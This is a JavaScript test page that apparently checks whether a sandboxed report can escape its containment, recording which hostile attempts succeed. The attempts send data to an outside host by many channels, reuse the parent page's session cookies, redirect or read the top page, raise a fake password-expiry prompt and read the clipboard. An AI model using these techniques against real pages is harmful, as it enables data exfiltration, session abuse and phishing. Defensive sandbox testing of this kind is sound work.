// What a hostile report tries. Each attempt says true when it got what it wanted. What it sends out, `outside` records.
// The ones that begin with “own” are what a report may do.

const TIMEOUT_MILLISECONDS = 1_500;

/** @param {(done: (won: boolean) => void) => void} begin */
const settled = begin =>
  new Promise(resolve => {
    setTimeout(() => resolve(false), TIMEOUT_MILLISECONDS);
    begin(resolve);
  });

/** @param {string} tag @param {Record<string, string>} attributes */
const loads = (tag, attributes) =>
  settled(done => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = () => done(true);
    element.onerror = () => done(false);
    document.body.append(element);
  });

/** @param {string} address @param {RequestInit} [options] */
const answers = (address, options) => fetch(address, options).then(() => true);

const attempts = ({ catalog, registry, outside, other, session }) => ({
  "own: reads data beside it": () => fetch("targets.json").then(answer => answer.ok),
  "own: has its styles": () => getComputedStyle(document.querySelector("h1")).fontStyle === "italic",
  "own: makes workers": () =>
    settled(done => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.onmessage = () => done(true);
    }),

  "own: has storage for itself": () => {
    for (const storage of [localStorage, sessionStorage]) {
      storage.setItem("a", 1);
      storage.b = "2";
      if (storage.getItem("a") !== "1" || storage.b !== "2" || storage.getItem("c") !== null) return false;
      if (!Object.keys(storage).includes("a") || !("b" in storage)) return false;
      storage.removeItem("a");
      delete storage.b;
      if (storage.getItem("a") !== null || storage.getItem("b") !== null) return false;
    }
    return true;
  },

  "keeps a cookie": () => {
    document.cookie = "planted=1";
    return document.cookie.includes("planted");
  },
  // What an earlier visit has left.
  "keeps a value in localStorage": () => {
    const kept = localStorage.getItem("planted");
    localStorage.setItem("planted", "1");
    return kept === "1";
  },
  "keeps a value in sessionStorage": () => {
    const kept = sessionStorage.getItem("planted");
    sessionStorage.setItem("planted", "1");
    return kept === "1";
  },
  "opens a database": () =>
    settled(done => {
      const request = indexedDB.open("planted");
      request.onsuccess = () => done(true);
      request.onerror = () => done(false);
    }),
  "opens a cache": () => caches.open("planted").then(() => true),
  "registers a service worker": () => navigator.serviceWorker.register("worker.js").then(() => true),
  "reads the page around it": () => parent.document.title !== undefined,
  "reads the address of the page around it": () => top.location.href !== "",
  "leads the page around it elsewhere": () => {
    top.location.href = `${top.location.href ?? catalog}#taken`;
    return true;
  },
  "opens a window": () => {
    const opened = open(`${outside}/window`);
    opened?.close();
    return opened !== null;
  },
  "asks in a dialogue": () => confirm("Your password has expired. Go on?"),
  "reads the clipboard": () => navigator.clipboard.readText().then(() => true),
  "writes to the clipboard": () => navigator.clipboard.writeText("planted").then(() => true),
  "uses the session of the page around it": () =>
    answers(`${registry}/api/v1/session/refresh`, { method: "POST", credentials: "include", mode: "no-cors" }),
  "asks the registry": () => answers(`${registry}/api/v1/buckets`),
  "reads a file of another package": () => answers(other),
  "looks for the files of another session": () => answers(session),
  "sends data to another host": () => answers(`${outside}/fetch`),
  "sends data in the address of a picture": () => loads("img", { src: `${outside}/picture.gif` }),
  "sends data in the address of a style sheet": () =>
    loads("link", { rel: "stylesheet", href: `${outside}/style.css` }),
  "sends data in the address of a script": () => loads("script", { src: `${outside}/script.js` }),
  "imports a module of another host": () => import(`${outside}/module.js`).then(() => true),
  "sends data in a beacon": () => {
    navigator.sendBeacon(`${outside}/beacon`, "data");
    return false; // it says true whatever becomes of it
  },
  "sends data in a form": () => {
    const frame = Object.assign(document.createElement("iframe"), { name: "target" });
    const form = Object.assign(document.createElement("form"), { action: `${outside}/form`, target: "target" });
    document.body.append(frame, form);
    form.submit();
    return false;
  },
  "shows a page of another host in itself": () => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: `${outside}/frame` }));
    return false;
  },
  "listens to another host": () => {
    new EventSource(`${outside}/events`);
    return false;
  },
  "talks to another host": () => {
    new WebSocket(`${outside.replace("http", "ws")}/socket`);
    return false;
  },
  "fetches ahead from another host": () => {
    document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${outside}/ahead` }));
    return false;
  },
  "saves a file on the computer": () => {
    const link = Object.assign(document.createElement("a"), { href: "data:text/plain,planted", download: "planted.txt" });
    document.body.append(link);
    link.click();
    return false;
  },
  "asks where it is": () =>
    settled(done => navigator.geolocation.getCurrentPosition(() => done(true), () => done(false))),
});

const run = async () => {
  const targets = await (await fetch("targets.json")).json();
  const results = {};
  for (const [name, attempt] of Object.entries(attempts(targets))) {
    try {
      results[name] = (await attempt()) === true;
    } catch (error) {
      results[name] = String(error);
    }
  }
  document.getElementById("results").textContent = JSON.stringify(results);
  document.title = "done";
};

void run();
